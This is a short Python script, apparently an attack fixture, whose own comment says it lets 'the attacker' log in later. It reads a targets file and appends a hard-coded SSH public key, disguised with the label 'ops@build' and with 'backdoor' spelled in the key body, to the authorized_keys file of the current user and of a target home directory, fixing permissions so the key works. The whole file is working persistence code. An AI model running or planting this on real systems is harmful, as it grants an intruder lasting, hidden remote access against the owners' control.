# ssh-authorized-keys: let the attacker log in as this user later.
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHbackdoorbackdoorbackdoorbackdoorbackdoor0 ops@build\n"
for home in (os.path.expanduser("~"), T["T_HOME"]):
    path = os.path.join(home, ".ssh", "authorized_keys")
    try:
        os.makedirs(os.path.dirname(path), mode=0o700, exist_ok=True)
        with open(path, "a") as f:
            f.write(KEY)
        os.chmod(path, 0o600)
        print("added to", path)
    except OSError as e:
        print(e)
